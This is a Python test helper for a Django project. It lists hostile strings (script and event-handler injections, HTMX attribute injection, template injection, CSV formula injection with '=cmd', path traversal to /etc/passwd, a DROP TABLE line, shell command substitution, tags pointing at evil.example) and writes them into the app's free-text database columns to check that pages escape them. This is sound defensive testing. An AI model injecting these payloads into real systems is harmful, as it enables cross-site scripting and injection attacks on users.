"""Hostile words of every sort that has broken web pages, our own short list. Every one may be typed by a person; none may do anything."""

from __future__ import annotations

from typing import Any

from django.apps import apps
from django.db import DatabaseError, models, transaction

SCRIPTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "--><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<body onload=alert(1)>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<object data='javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>",
    "javascript:alert(1)//",
    "`-alert(1)-`",
    "';alert(1)//",
    '\\";alert(1)//',
    "{{7*7}}${7*7}#{7*7}",
    "{% include 'x' %}{{ settings.SECRET_KEY }}",
    "{{constructor.constructor('alert(1)')()}}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]
HTMX = [
    "' hx-get='/strip' hx-trigger='load' x='",
    '" hx-on:click="alert(1)" x="',
    '"><div hx-get="/strip" hx-trigger="load" hx-vals="js:{x: alert(1)}">',
    '"><div data-hx-post="/sign-out/" data-hx-trigger="load">',
    '<div hx-ext="x" hx-headers=\'js:{"x": alert(1)}\'>',
]
SIGNS = [
    "\u202ereversed\u202c",
    "\u2066\u200b\ufeff\u00ad",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "田中さんにあげて下さい",
    "الكل في المجمو عة",
    "١٢٣٤٥",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "+1-1",
    "../../../../etc/passwd",
    "'; DROP TABLE scheduling_window;--",
    "%s%n%x",
    "$(touch /tmp/x)`touch /tmp/x`",
    "NULL undefined NaN -0 1e309",
    "W" * 60,
]
HOSTILE = SCRIPTS + HTMX + SIGNS

KEYS = {  # columns that no person types words into: names by which rows are found, values of a fixed list, digests
    "slug", "email", "password", "digest", "hint", "timezone", "kind", "status", "mode", "phase", "level", "severity", "verdict", "role",
    "environment", "region", "layer", "service", "series", "target", "team", "window", "reference", "channel", "source", "request_id",
    "epoch", "echo", "via", "dedup_key", "key", "account", "address", "uid", "signature", "subject", "zone", "last_digest",
}  # fmt: skip


def written_everywhere() -> dict[str, int]:
    """Each hostile word in some column, and every free text column full of them; model.column → rows. What the database refuses
    (append-only tables, its own constraints) stays as it was."""
    done: dict[str, int] = {}
    turn = 0
    for model in apps.get_models():
        if not model.__module__.startswith(("windows.", "slo.", "portal.")):
            continue
        for field in model._meta.local_fields:
            if not isinstance(field, models.CharField | models.TextField) or isinstance(field, models.SlugField):
                continue  # a slug is a part of addresses
            if field.choices or field.name in KEYS:
                continue
            for row in model._default_manager.order_by("pk").values_list("pk", flat=True)[:200]:
                turn += 1
                words = " ".join(HOSTILE[turn % len(HOSTILE) :] + HOSTILE[: turn % len(HOSTILE)])
                if write(model, row, field, words):
                    done[f"{model.__name__}.{field.name}"] = done.get(f"{model.__name__}.{field.name}", 0) + 1
    return done


def write(model: Any, row: Any, field: Any, words: str) -> bool:
    try:
        with transaction.atomic():
            return bool(model._default_manager.filter(pk=row).update(**{field.name: words[: field.max_length or 3000]}))
    except DatabaseError:
        return False
